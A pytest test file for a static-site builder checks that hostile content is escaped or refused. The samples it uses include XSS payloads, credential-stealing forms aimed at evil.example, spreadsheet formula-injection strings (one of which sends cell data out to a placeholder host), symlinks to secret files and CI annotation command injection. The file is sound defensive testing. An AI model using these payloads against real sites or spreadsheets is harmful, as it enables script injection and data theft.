"""Untrusted text never reaches a built page as markup: a small hostile content set is built
with build_site and every page's HTML is searched for what must not be there."""

from __future__ import annotations

import html as html_module
import os
import shutil
import signal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from bad_content import old_site
from bad_content import run as bad_run
from bad_content import run_build as bad_run_build
from bad_content import snapshot as bad_snapshot

from imvo import ROOT
from imvo.cli import main
from imvo.model import Corpus
from imvo.outputs import post_steps
from imvo.problems import ContentError
from imvo.target import MARKER, TargetError, check_target
from imvo.validate import load_content
from imvo.write import build_site

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "content"

HOSTILE_NAME = "Convenant <script>alert('name')</script> <b onmouseover=alert('b')>vet</b>"
HOSTILE_SUMMARY = """\
Een "><script>alert('desc')</script> convenant. <script>alert('summary')</script>
<img src="x" onerror="alert('img')"> <a href="javascript:alert('a')">klik</a>
[md-js](javascript:alert('md')) [md-data](data:text/html;base64,PHNjcmlwdD4=)
<iframe src="https://evil.example/"></iframe> <svg onload="alert('svg')"></svg>
<div style="background:url(javascript:alert('css'))">stijl</div>
<form action="javascript:alert('form')"><button formaction="javascript:alert('f')">b</button></form>
"""

OPEN_TAGS = (
    'An <a href="https://example.org/">agreement <b>with <details><summary>tags <select>'
    "<button>left <table>open <textarea><iframe><style><script>and more"
)
"""An English summary that opens tags and never closes them."""


def hostile_content(folder: Path) -> Path:
    """The fixture content with script, handlers and unsafe links in every kind of field."""
    content = folder / "content"
    shutil.copytree(FIXTURE, content)
    covenant = content / "covenants" / "voorbeeld.yaml"
    text = covenant.read_text("utf-8")
    indented = "".join(f"    {line}\n" for line in HOSTILE_SUMMARY.splitlines())
    text = text.replace("  nl: Convenant Voorbeeldsector", f'  nl: "{HOSTILE_NAME}"', 1)
    text = text.replace("  nl: Een convenant om de fixture te testen.", f"  nl: |\n{indented}")
    text = text.replace("  nl: Klachten gaan", "  nl: <script>alert('complaints')</script> Gaan")
    text = text.replace("  en: An agreement to test the fixture.", f"  en: '{OPEN_TAGS}'")
    covenant.write_text(text, encoding="utf-8")
    about = content / "texts" / "about.nl.md"
    body = about.read_text("utf-8").splitlines()[1:]
    about.write_text(
        "# Over <script>alert('nav')</script> <img src=x onerror=alert('navimg')>\n"
        + "\n".join(body)
        + "\n<script>alert('text')</script>\n"
        + "<a href=\"javascript:alert('t')\" onclick=\"alert('c')\">x</a>\n",
        encoding="utf-8",
    )
    parties = content / "parties.yaml"
    parties.write_text(
        parties.read_text("utf-8").replace(
            "    name: FNV\n", "    name: \"FNV <script>alert('party')</script>\"\n", 1
        ),
        encoding="utf-8",
    )
    return content


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile content set, built without PDFs."""
    folder = tmp_path_factory.mktemp("hostile")
    os.environ.setdefault("SOURCE_DATE_EPOCH", "1763683200")
    corpus = load_content(hostile_content(folder), folder)
    build_site(corpus, folder / "site", post_steps=post_steps(pdf=False))
    return folder / "site"


def pages(site: Path) -> dict[str, str]:
    """Every HTML page of the built site, by path."""
    return {p.relative_to(site).as_posix(): p.read_text("utf-8") for p in site.rglob("*.html")}


class Markup(HTMLParser):
    """What a browser would treat as markup: tags with their attributes, and script text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self._in_script = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def parsed(site: Path) -> dict[str, Markup]:
    """Every page of the site, parsed."""
    return {path: Markup(html) for path, html in pages(site).items()}


def test_no_injected_script_on_any_page(hostile_site: Path) -> None:
    found = {
        path: [text for text in page.scripts if "alert(" in text]
        for path, page in parsed(hostile_site).items()
    }
    assert {path: hits for path, hits in found.items() if hits} == {}
    assert "&lt;script&gt;alert(" in (hostile_site / "voorbeeld.html").read_text("utf-8")


def test_no_event_handler_attribute_on_any_page(hostile_site: Path) -> None:
    found = {
        (path, tag, name)
        for path, page in parsed(hostile_site).items()
        for tag, attrs in page.tags
        for name in attrs
        if name.startswith("on")
    }
    assert found == set()


def test_no_javascript_or_data_link_on_any_page(hostile_site: Path) -> None:
    found = {
        (path, tag, value)
        for path, page in parsed(hostile_site).items()
        for tag, attrs in page.tags
        for name, value in attrs.items()
        if name in {"href", "src", "action", "formaction", "xlink:href"}
        and value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
    }
    assert found == set()


def test_no_iframe_style_or_form_from_content(hostile_site: Path) -> None:
    html = (hostile_site / "voorbeeld.html").read_text("utf-8")
    assert "<iframe" not in html
    assert "evil.example" not in html
    assert "url(javascript" not in html
    assert "formaction" not in html


def test_hostile_name_is_shown_as_text(hostile_site: Path) -> None:
    html = (hostile_site / "voorbeeld.html").read_text("utf-8")
    shown = (
        "Convenant &lt;script&gt;alert('name')&lt;/script&gt; &lt;b onmouseover=alert('b')&gt;vet"
    )
    assert f'<h1 id="convenant-scriptalertnamescript-b-onmouseoveralertbvetb">{shown}' in html
    # The theme's header and <title> print the page title unescaped: it arrives escaped.
    assert "<title>Convenant &lt;script&gt;alert(" in html
    assert html.count("&lt;script&gt;alert('name')") >= 1
    assert "<script>alert('name')" not in html


def test_hostile_menu_title_is_text_on_every_page(hostile_site: Path) -> None:
    for path, html in pages(hostile_site).items():
        assert "<script>alert('nav')" not in html, path
        assert "<img src=x onerror" not in html, path
    assert "Over &lt;script&gt;alert" in (hostile_site / "index.html").read_text("utf-8")


def test_markdown_links_keep_text_but_lose_unsafe_address(hostile_site: Path) -> None:
    html = (hostile_site / "voorbeeld.html").read_text("utf-8")
    page = Markup(html)
    links = [attrs for tag, attrs in page.tags if tag == "a" and "href" not in attrs]
    assert '<a title="md">md-js</a>' in html
    assert "<a>md-data</a>" in html
    assert "<a>klik</a>" in html
    assert len(links) >= 3


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example/",
    ],
)
def test_unsafe_link_in_a_url_field_is_refused(url: str, tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    covenant = content / "covenants" / "voorbeeld.yaml"
    text = covenant.read_text("utf-8").replace("url: https://example.org/\n", f"url: '{url}'\n")
    covenant.write_text(text, encoding="utf-8")
    with pytest.raises(ContentError) as raised:
        load_content(content, tmp_path)
    assert [p.text() for p in raised.value.problems] == [
        "content/covenants/voorbeeld.yaml:54: links[0].url: expected a web address starting "
        f"with https:// (or mailto:); got {url!r}"
    ]


class Nesting(HTMLParser):
    """The elements open around each heading with an id, as a browser would nest them."""

    VOID = frozenset({"br", "img", "input", "meta", "link", "hr", "source", "wbr", "area", "col"})

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.around: dict[str, list[str]] = {}
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag in {"h2", "h3"} and found.get("id"):
            self.around[str(found["id"])] = list(self.stack)
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass


def test_tags_left_open_in_a_text_end_with_that_text(hostile_site: Path) -> None:
    html = (hostile_site / "en" / "voorbeeld.html").read_text("utf-8")
    article = html[html.index("<article") : html.index("</article>")]
    around = Nesting(article).around
    assert list(around)[:5] == ["glance", "what-you-can-do", "complaints", "summary", "goals"]
    opened = {"a", "b", "details", "summary", "select", "button", "table", "textarea"}
    assert {anchor: set(tags) & opened for anchor, tags in around.items()} == {
        anchor: set() for anchor in around
    }
    assert around["sources"] == around["summary"]
    assert "A living wage." in article
    assert "Complaints go to the complaints committee." in article
    assert '<a href="https://example.org/">agreement <b>with </b></a>' in article
    assert "<select" not in article and "<button" not in article


# --- 1. The --site folder: the build never replaces what it did not make -----------------

ADVICE = (
    "the build replaces the whole --site folder, so give it a folder of its own, such as 'site'"
)


def tree(folder: Path) -> dict[str, object]:
    """Every folder, file (with its bytes) and symlink (with its target) under a folder."""
    found: dict[str, object] = {}
    for top, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(top) / name
            key = path.relative_to(folder).as_posix()
            if path.is_symlink():
                found[key] = ("link", os.readlink(path))
            elif path.is_dir():
                found[key] = "folder"
            else:
                found[key] = path.read_bytes()
    return found


@pytest.fixture
def clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A throwaway clone: .git, content, an uncommitted file, a home folder; cwd is the clone."""
    repo = tmp_path / "home" / "clone"
    shutil.copytree(FIXTURE, repo / "content")
    (repo / ".git").mkdir()
    (repo / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    (repo / "notes.txt").write_text("uncommitted work\n", encoding="utf-8")
    (tmp_path / "home" / "letter.txt").write_text("private\n", encoding="utf-8")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1763683200")
    monkeypatch.chdir(repo)
    return repo


def build_into(site: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    """Run `build --no-pdf --site <site>`; the exit code and the lines on stderr."""
    capsys.readouterr()
    code = main(["build", "--no-pdf", "--site", site, "--lang", "en"])
    captured = capsys.readouterr()
    assert captured.out == ""
    return code, captured.err.splitlines()


def assert_target_refused(
    site: str, why: str, clone: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The build refuses the target with exactly one line and touches nothing at all."""
    top = clone.parent.parent
    before = tree(top)
    code, lines = build_into(site, capsys)
    assert (code, lines) == (1, [f"--site {Path(site).as_posix()}: {why}; {ADVICE}"])
    assert tree(top) == before


@pytest.mark.parametrize(
    ("site", "why"),
    [
        (".", "this folder holds the content folder (content)"),
        ("content", "this is the content folder (content)"),
        ("content/", "this is the content folder (content)"),
        ("./content/../content", "this is the content folder (content)"),
        ("content/covenants", "this folder is inside the content folder (content)"),
        ("content/new-folder", "this folder is inside the content folder (content)"),
        ("..", "this folder holds the content folder (content)"),
        ("/", "this folder holds the content folder (content)"),
        (".git", "this folder is inside a repository's .git folder"),
        (".git/site", "this folder is inside a repository's .git folder"),
    ],
)
def test_site_that_holds_or_is_inside_the_content_is_refused(
    site: str, why: str, clone: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert_target_refused(site, why, clone, capsys)


def test_site_that_is_the_home_folder_is_refused(
    clone: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    home = clone.parent
    # Content elsewhere, so that only the home folder is at stake.
    elsewhere = home.parent / "work"
    shutil.move(clone / "content", elsewhere / "content")
    monkeypatch.chdir(elsewhere)
    assert_target_refused(str(home), f"this is your home folder ({home.as_posix()})", clone, capsys)
    before = tree(clone.parent.parent)
    code, lines = build_into("~", capsys)
    why = f"this is your home folder ({home.as_posix()})"
    assert (code, lines) == (1, [f"--site ~ ({home.as_posix()}): {why}; {ADVICE}"])
    assert tree(clone.parent.parent) == before


def test_site_that_holds_the_repository_or_working_directory_is_refused(
    clone: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # The content lives outside the clone; the clone is the working directory.
    outside = clone.parent.parent / "outside"
    shutil.move(clone / "content", outside / "content")
    (clone / "sub").mkdir()
    monkeypatch.chdir(clone / "sub")
    content = str(outside / "content")
    capsys.readouterr()
    top = clone.parent.parent
    before = tree(top)
    for site, why in [
        ("..", f"this is the repository ({clone.as_posix()})"),
        (".", f"this is the working directory ({(clone / 'sub').as_posix()})"),
    ]:
        code = main(["build", "--no-pdf", "--content", content, "--site", site, "--lang", "en"])
        assert (code, capsys.readouterr().err) == (1, f"--site {site}: {why}; {ADVICE}\n")
    assert tree(top) == before


def test_a_symlink_to_the_content_or_home_is_followed_and_refused(
    clone: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (clone / "to-content").symlink_to(clone / "content")
    (clone / "to-home").symlink_to(clone.parent)
    for link, why in [
        ("to-content", f"({(clone / 'content').as_posix()}): this is the content folder (content)"),
        ("to-home", f"({clone.parent.as_posix()}): this folder holds the content folder (content)"),
        ("to-home/clone", f"({clone.as_posix()}): this folder holds the content folder (content)"),
    ]:
        before = tree(clone.parent.parent)
        code, lines = build_into(link, capsys)
        assert (code, lines) == (1, [f"--site {link} {why}; {ADVICE}"])
        assert tree(clone.parent.parent) == before


def test_a_symlink_loop_or_a_file_is_refused(
    clone: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (clone / "loop").symlink_to(clone / "loop")
    for site, why in [
        ("loop", "this is a symlink that leads nowhere (a loop, or a missing target)"),
        ("notes.txt", "this is a file, not a folder"),
        ("notes.txt/site", f"{(clone / 'notes.txt').as_posix()} is a file, not a folder"),
    ]:
        before = tree(clone.parent.parent)
        code, lines = build_into(site, capsys)
        assert (code, lines[0].split("; ")[0]) == (1, f"--site {site}: {why}")
        assert len(lines) == 1
        assert tree(clone.parent.parent) == before


@pytest.mark.parametrize("folder", ["work", "../work", "templates"])
def test_a_folder_the_build_did_not_make_is_refused_with_the_command_that_removes_it(
    folder: str, clone: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    work = (clone / folder).resolve()
    work.mkdir(parents=True)
    (work / "index.html").write_text("my own page\n", encoding="utf-8")
    (work / "draft.md").write_text("# draft\n", encoding="utf-8")
    before = tree(clone.parent.parent)
    code, lines = build_into(folder, capsys)
    assert (code, lines) == (
        1,
        [
            f"--site {folder}: this folder is not empty and was not made by this build (it has "
            "no .imvo-site file); give the build a new or empty folder, or, if it only holds an "
            f"old copy of the site, remove it first with: rm -rf -- {work}"
        ],
    )
    assert tree(clone.parent.parent) == before


def test_missing_empty_and_own_folders_are_built_and_marked(
    clone: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (clone / "empty").mkdir()
    for site in ["site", "empty", "out/deeper/site"]:
        code, lines = build_into(site, capsys)
        assert code == 0, lines
        assert (clone / site / MARKER).is_file()
        assert (clone / site / "voorbeeld.html").is_file()
    # A site the build made is replaced whole the next time.
    (clone / "site" / "stale.html").write_text("old\n", encoding="utf-8")
    assert build_into("site", capsys)[0] == 0
    assert not (clone / "site" / "stale.html").exists()
    assert (clone / "notes.txt").read_text("utf-8") == "uncommitted work\n"
    assert sorted(p.name for p in clone.iterdir()) == [
        ".git",
        "content",
        "empty",
        "notes.txt",
        "out",
        "site",
    ]


def test_a_site_built_before_the_marker_is_recognised(
    clone: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert build_into("site", capsys)[0] == 0
    (clone / "site" / MARKER).unlink()  # as every site/ was before the marker
    assert build_into("site", capsys)[0] == 0
    assert (clone / "site" / MARKER).is_file()
    # The same files with someone's work among them are not an old site.
    (clone / "site" / MARKER).unlink()
    (clone / "site" / "en" / "notes.md").write_text("mine\n", encoding="utf-8")
    before = tree(clone)
    code, lines = build_into("site", capsys)
    assert code == 1
    assert lines[0].startswith("--site site: this folder is not empty and was not made by")
    assert tree(clone) == before


def test_a_site_from_before_pagefind_is_recognised_and_half_a_site_is_not(
    clone: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A pre-marker site had the theme's search index instead of Pagefind's bundles."""
    assert build_into("site", capsys)[0] == 0
    site = clone / "site"
    (site / MARKER).unlink()
    for lang in (site, site / "en"):
        shutil.rmtree(lang / "pagefind")
        (lang / "search").mkdir()
        (lang / "search" / "search_index.json").write_text("{}\n", encoding="utf-8")
    assert build_into("site", capsys)[0] == 0
    assert (site / MARKER).is_file()
    # One language's search index gone: not all of the build's files, so not an old site.
    (site / MARKER).unlink()
    shutil.rmtree(site / "en" / "pagefind")
    before = tree(clone)
    code, lines = build_into("site", capsys)
    assert code == 1
    assert lines[0].startswith("--site site: this folder is not empty and was not made by")
    assert tree(clone) == before


def test_build_site_itself_refuses_before_writing(clone: Path, fixture_corpus: Corpus) -> None:
    before = tree(clone.parent.parent)
    for site in [clone, clone / "content", clone.parent, clone / "content" / "x"]:
        with pytest.raises(TargetError):
            build_site(fixture_corpus, site, post_steps=[])
    assert tree(clone.parent.parent) == before


def test_check_target_refuses_the_project_itself(tmp_path: Path) -> None:
    """Only the check, which writes nothing: the real repository is never a build target."""
    content = tmp_path / "content"
    for site in [ROOT, ROOT / ".git", ROOT.parent]:
        # A clone in /tmp has pytest's tmp_path below its parent: that folder then holds the
        # test's content too, which the build names first.
        holds_content = content.resolve().is_relative_to(site.resolve())
        why = r"holds the content folder" if holds_content else r"repository|\.git"
        with pytest.raises(TargetError, match=why):
            check_target(site, content=content, cwd=tmp_path)


# --- 2. Symbolic links and special files under content/ ------------------------------------

LINK = (
    "this is a symbolic link; the build reads only ordinary files inside the content folder, "
    "so that a link cannot publish a file from elsewhere: put the file itself here"
)
LINKED_FOLDER = (
    "this folder is a symbolic link; the build reads only folders inside the content folder, "
    "so that a link cannot publish files from elsewhere: put the folder itself here"
)
SECRET = "secret-token-ZXY"


def _outside(tmp_path: Path) -> Path:
    """A file outside the content that must never be printed or published."""
    secret = tmp_path / "secret.yaml"
    secret.write_text(f"{SECRET}: {SECRET}\n# {SECRET}\n", encoding="utf-8")
    return secret


def _link_outside(content: Path, where: str) -> None:
    (content / where).unlink(missing_ok=True)
    (content / where).symlink_to(_outside(content.parent))


def _link_inside(content: Path, where: str) -> None:
    (content / where).symlink_to(content / "covenants" / "voorbeeld.yaml")


def _dangling(content: Path, where: str) -> None:
    (content / where).symlink_to(content / "nowhere.yaml")


def _loop(content: Path, where: str) -> None:
    (content / where).symlink_to(content / where)


def _fifo(content: Path, where: str) -> None:
    (content / where).unlink(missing_ok=True)
    os.mkfifo(content / where)


def _dev_zero(content: Path, where: str) -> None:
    (content / where).unlink(missing_ok=True)
    (content / where).symlink_to("/dev/zero")


def _folder_link(content: Path, where: str) -> None:
    moved = content.parent / "elsewhere"
    shutil.move(content / where, moved)
    (content / where).symlink_to(moved)


@pytest.mark.parametrize(
    ("make", "where", "line"),
    [
        (_link_outside, "covenants/passwd.yaml", f"(file): {LINK}"),
        (_link_inside, "covenants/copy.yaml", f"(file): {LINK}"),
        (_dangling, "covenants/dangling.yaml", f"(file): {LINK}"),
        (_loop, "covenants/loop.yaml", f"(file): {LINK}"),
        (_dev_zero, "covenants/zero.yaml", f"(file): {LINK}"),
        (
            _fifo,
            "covenants/pipe.yaml",
            "(file): this is a named pipe, not an ordinary file; the build reads only ordinary "
            "text files",
        ),
        (_link_outside, "parties.yaml", f"(file): {LINK}"),
        (_dev_zero, "glossary.yaml", f"(file): {LINK}"),
        (
            _fifo,
            "due-diligence.yaml",
            "(file): this is a named pipe, not an ordinary file; "
            "the build reads only ordinary text files",
        ),
        (_link_outside, "texts/about.en.md", f"(file): {LINK}"),
        (_dangling, "texts/notes.nl.md", f"(file): {LINK}"),
        (
            _fifo,
            "texts/about.nl.md",
            "(file): this is a named pipe, not an ordinary file; "
            "the build reads only ordinary text files",
        ),
        (_folder_link, "covenants", f"(folder): {LINKED_FOLDER}"),
        (_folder_link, "texts", f"(folder): {LINKED_FOLDER}"),
    ],
)
def test_links_and_special_files_are_one_line_and_never_read(
    make: Any,
    where: str,
    line: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    make(content, where)
    before = old_site(tmp_path)
    expected = f"content/{where}:1: {line}"
    checked = bad_run(tmp_path, ["check", "--content", "content"], monkeypatch, capsys)
    assert (checked.code, checked.out) == (1, "")
    assert checked.err.splitlines() == [expected, "1 error in 1 file."]
    github = bad_run(tmp_path, ["check", "--format", "github"], monkeypatch, capsys)
    assert github.code == 1 and len(github.out.splitlines()) == 1
    built = bad_run_build(tmp_path, monkeypatch, capsys)
    assert built.code == 1
    assert expected in built.err.splitlines()
    for run_ in (checked, github, built):
        assert SECRET not in run_.out + run_.err
        assert "Traceback" not in run_.err
    assert bad_snapshot(tmp_path / "site") == before


def test_a_file_that_grows_past_the_limit_is_read_no_further(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file whose size reads as small is still read only up to the limit plus one byte."""
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    reads: list[int] = []
    real_read = os.read

    def counting_read(fd: int, size: int) -> bytes:
        reads.append(size)
        return b"a" * size  # like /dev/zero: never ends

    monkeypatch.setattr(os, "read", counting_read)
    from imvo.load import MAX_FILE_BYTES, read_content

    raw, size, problems = read_content(content / "parties.yaml", "content/parties.yaml")
    monkeypatch.setattr(os, "read", real_read)
    assert (raw, problems) == (None, [])
    assert size == MAX_FILE_BYTES + 1
    assert sum(reads) == MAX_FILE_BYTES + 1


# --- 3. Editors' HTML: no block shape brings forms, drawings or requests to other hosts ----

BLOCKS = [
    '<form action="https://evil.example/steal" class="evil"><input type="password" '
    'name="pw" class="evil"><button formaction="https://evil.example/f" class="evil">OK'
    "</button></form>",
    '<svg class="evil"><image href="https://evil.example/svg.png"/>'
    '<use href="https://evil.example/s.svg#a"/></svg>',
    '<div class="evil"><form><input type="password" class="evil"></form></div>',
    '<p class="evil"><svg class="evil"><a href="https://evil.example/"><text>x</text></a>'
    "</svg></p>",
    '<table class="evil"><tr><td><form class="evil"><select class="evil"></select></form>'
    "</td></tr></table>",
    '<h2 class="evil">Kop <a href="https://www.ser.nl/" class="evil">h</a></h2>',
    '<section class="evil"><img src="pixel.png" alt="own"></section>',
    '<div style="background:url(https://evil.example/bg.png)" class="evil">bg</div>',
    '<ul class="evil"><li><img srcset="https://evil.example/set.png 1x"></li>'
    '<li><video poster="https://evil.example/poster.png"></video></li></ul>',
    '<div><meta http-equiv="refresh" content="0;url=https://evil.example/"></div>',
    '<nav><base href="https://evil.example/"></nav>',
    '<figure><object data="https://evil.example/o"></object><embed src="https://evil.example/e">'
    '<iframe src="https://evil.example/i"></iframe></figure>',
    '<dl><dt>a</dt><dd><link rel="stylesheet" href="https://evil.example/s.css"></dd></dl>',
]
"""Paragraphs that are each one block element, as an editor might write them."""

LOADING = {
    "src", "srcset", "poster", "data", "background", "formaction", "action", "xlink:href",
}  # fmt: skip


def _blocks_content(folder: Path) -> Path:
    content = folder / "content"
    shutil.copytree(FIXTURE, content)
    covenant = content / "covenants" / "voorbeeld.yaml"
    text = covenant.read_text("utf-8")
    paragraphs = "".join(f"    {block}\n\n" for block in BLOCKS).rstrip("\n") + "\n"
    for old in ("  nl: Een convenant om de fixture te testen.", "  nl: Klachten gaan"):
        line = next(line for line in text.splitlines() if line.startswith(old))
        text = text.replace(line, f"  nl: |\n    {line[6:]}\n\n{paragraphs}", 1)
    covenant.write_text(text, encoding="utf-8")
    about = content / "texts" / "about.nl.md"
    about.write_text(about.read_text("utf-8") + "\n" + "\n\n".join(BLOCKS) + "\n", encoding="utf-8")
    return content


@pytest.fixture(scope="module")
def blocks_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every block shape in a factsheet's fields and in a text page, built without PDFs."""
    folder = tmp_path_factory.mktemp("blocks")
    os.environ.setdefault("SOURCE_DATE_EPOCH", "1763683200")
    corpus = load_content(_blocks_content(folder), folder)
    build_site(corpus, folder / "site", post_steps=post_steps(pdf=False), pdf_links=False)
    return folder / "site"


@pytest.mark.parametrize("page", ["voorbeeld.html", "over-deze-site.html"])
def test_no_block_shape_brings_forms_or_drawings(blocks_site: Path, page: str) -> None:
    html = (blocks_site / page).read_text("utf-8")
    found = Markup(html).tags
    evil = [(tag, attrs) for tag, attrs in found if "evil" in attrs.get("class", "").split()]
    assert {tag for tag, _ in evil} <= {"div", "p", "table", "h2", "a", "section", "ul"}
    assert "evil.example" not in html
    assert "password" not in html
    assert not {"form", "input", "select", "button", "svg", "image", "use"} & {
        tag for tag, attrs in evil
    }
    assert "bg</div>" in html  # the text of a block stays; only what is unsafe goes


def test_no_page_makes_the_browser_go_to_another_host(blocks_site: Path) -> None:
    from imvo.sanitize import leaves_the_site

    found = []
    for path, page in parsed(blocks_site).items():
        for tag, attrs in page.tags:
            for name, value in attrs.items():
                loads = name in LOADING or (name == "href" and tag in {"link", "image", "use"})
                if loads and (leaves_the_site(value) or "\\" in value):
                    found.append((path, tag, name, value))
                if name == "style" and "url(" in value.replace(" ", ""):
                    found.append((path, tag, name, value))
                if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
                    found.append((path, tag, name, value))
            if tag == "base":
                found.append((path, tag, "", ""))
    assert found == []


IMAGES = [
    "\\\\evil.example/a.png",
    "\\/evil.example/b.png",
    "/\\evil.example/c.png",
    "/&#9;/evil.example/d.png",
    "/&#10;/evil.example/e.png",
    " https://evil.example/f.png",
    "HTTPS://evil.example/g.png",
    "//evil.example/h.png",
]
"""Image addresses a browser loads from another host, however they are written."""


@pytest.mark.parametrize("src", IMAGES)
def test_an_image_from_another_host_is_dropped_however_written(src: str) -> None:
    from imvo.sanitize import sanitize, sanitize_text

    for clean in (sanitize, sanitize_text):
        assert clean(f'<p><img src="{src}" alt="x"></p>') == '<p><img alt="x"></p>'


@pytest.mark.parametrize("src", IMAGES[:3])
def test_an_image_from_another_host_in_raw_html_is_an_error_on_its_line(
    src: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    covenant = content / "covenants" / "voorbeeld.yaml"
    text = covenant.read_text("utf-8").replace(
        "  nl: Een convenant om de fixture te testen.",
        f"  nl: |\n    Een convenant.\n\n    <div><img src='{src}' alt=''></div>",
    )
    covenant.write_text(text, encoding="utf-8")
    before = old_site(tmp_path)
    built = bad_run_build(tmp_path, monkeypatch, capsys)
    shown = html_module.unescape(src)
    assert (built.code, built.err.splitlines()) == (
        1,
        [
            "The site was not built (the existing site is unchanged):",
            f"content/covenants/voorbeeld.yaml:32: (link): the image '{shown}' cannot be "
            "shown: the site shows only its own files and loads nothing from other sites; "
            "link to the image instead: [what it shows](address)",
        ],
    )
    assert bad_snapshot(tmp_path / "site") == before


@pytest.mark.parametrize(
    ("href", "message"),
    [
        ("nergens.html", "leads to no page of the site"),
        ("voorbeeld.yaml", "leads to no page of the site"),
        ("\\\\evil.example/", "is not a valid address"),
        ("over deze.html", "is not a valid address"),
    ],
)
def test_a_raw_link_is_checked_as_a_markdown_link_is(
    href: str,
    message: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    about = content / "texts" / "about.en.md"
    about.write_text(
        about.read_text("utf-8") + f'\nSee <a href="{href}">this page</a>.\n', encoding="utf-8"
    )
    built = bad_run_build(tmp_path, monkeypatch, capsys)
    lines = built.err.splitlines()
    assert built.code == 1
    assert len(lines) == 2
    assert lines[1].startswith("content/texts/about.en.md:")
    assert f"(link): the link '{href}' {message}" in lines[1]


def test_raw_links_to_pages_anchors_and_other_sites_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    about = content / "texts" / "about.en.md"
    links = [
        "overview.html",
        "voorbeeld.html#parties",
        "#top",
        "https://www.ser.nl/",
        "mailto:info@example.org",
    ]
    extra = "".join(f'<a href="{href}">link {n}</a> ' for n, href in enumerate(links))
    about.write_text(about.read_text("utf-8") + f"\n{extra}\n", encoding="utf-8")
    built = bad_run_build(tmp_path, monkeypatch, capsys)
    assert built.code == 0, built.err


# --- 4. Open data: no cell a spreadsheet would run -----------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_cell_starts_a_formula(formula: str, fixture_corpus: Corpus) -> None:
    import csv
    import dataclasses
    import io

    from imvo.data import covenants_csv, parties_csv

    covenant = fixture_corpus.covenants["voorbeeld"]
    name = covenant.name.model_copy(update={"nl": formula, "en": formula})
    party_id = covenant.parties[0].party
    party = fixture_corpus.parties[party_id].model_copy(update={"name": formula})
    corpus = dataclasses.replace(
        fixture_corpus,
        covenants={"voorbeeld": covenant.model_copy(update={"name": name, "sector": name})},
        parties={**fixture_corpus.parties, party_id: party},
    )
    seen = 0
    for text in (covenants_csv(corpus), parties_csv(corpus)):
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.lstrip(" ").startswith(
                    ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
                ), cell
                if cell == f"'{formula}":
                    seen += 1
    assert seen == 4 + 2  # name_nl, name_en, sector_nl, sector_en; the party in nl and en


# --- 5. Annotations and logs: a file name or a value cannot start a command --------------


def test_annotation_escapes_file_line_and_message() -> None:
    from imvo.problems import Problem

    problem = Problem("a\n::stop-commands::tok\r,x:y%.yaml", 3, "(file)", "bad\n::error::z %")
    assert problem.github() == (
        "::error file=a%0A%3A%3Astop-commands%3A%3Atok%0D%2Cx%3Ay%25.yaml,line=3::"
        "(file): bad%0A::error::z %25"
    )
